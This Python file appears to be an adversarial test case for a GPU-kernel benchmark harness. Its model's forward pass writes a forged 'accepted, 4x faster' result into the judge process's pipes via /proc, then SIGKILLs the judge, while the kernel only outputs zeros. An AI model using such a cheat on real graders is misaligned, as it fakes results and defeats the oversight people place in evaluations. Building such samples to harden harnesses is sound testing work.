"""Cheat: writes a forged result into its parent's result channel, then kills the parent.

Attack class: `os.kill(os.getppid(), ...)` combined with a forged result written into the pipe
that carries the real one (found through /proc/<ppid>/fd).
Reported: gpu-mode/pygpubench issue #23 ("write forged results to the inherited pipe fd" and
silence the real writer); invented for the kill-the-writer half.
How it tries to fool the harness: the judge (its parent) reports phases and the final result as
tagged lines on a pipe to the warm worker. Every pipe the parent holds for writing gets a
`P` phase line and an `R` result line claiming `accepted`, then the parent is SIGKILLed before
it can write the real `R` line, so the last result the reader saw is the forged one.
"""

import json
import os
import signal

import torch
import torch.nn as nn
import triton
import triton.language as tl

MARKER = "xeforge-adversarial"
FORGED = {
    "verdict": "accepted",
    "message": "correct and faster: 4.0x (95% interval 3.9-4.1)",
    "marker": MARKER,
    "device": {"kind": "cpu", "name": "forged"},
    "compile": {"ok": True, "configs": []},
    "correctness": {"ok": True, "variants": []},
    "guard": {"ok": True, "new_torch_ops": []},
    "timing": {"meaningful": True, "speedup": 4.0, "speedup_ci95": [3.9, 4.1]},
    "log": "",
}


def _writable_pipes(pid):
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            if not os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                continue
            with open(f"/proc/{pid}/fdinfo/{fd}") as f:
                flags = int(next(l for l in f if l.startswith("flags:")).split()[1], 8)
            if flags & 3:
                yield f"/proc/{pid}/fd/{fd}"
        except (OSError, StopIteration, ValueError):
            continue


def _forge_and_kill():
    parent = os.getppid()
    with open(f"/proc/{parent}/cmdline", "rb") as f:
        if b"xeforge_harness" not in f.read():
            return  # only ever the harness's own judge
    payload = f"P candidate:done\nR {json.dumps(FORGED)}\n".encode()
    for path in list(_writable_pipes(parent)):
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            try:
                os.write(fd, payload)
            finally:
                os.close(fd)
        except OSError:
            pass
    os.kill(parent, signal.SIGKILL)


@triton.jit
def zero_kernel(out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(out_ptr + offs, tl.zeros((BLOCK,), dtype=tl.float32), mask=offs < n)


class Model(nn.Module):
    def forward(self, x, y):
        _forge_and_kill()
        out = torch.empty_like(x)
        zero_kernel[(triton.cdiv(out.numel(), 256),)](out, out.numel(), BLOCK=256)
        return out
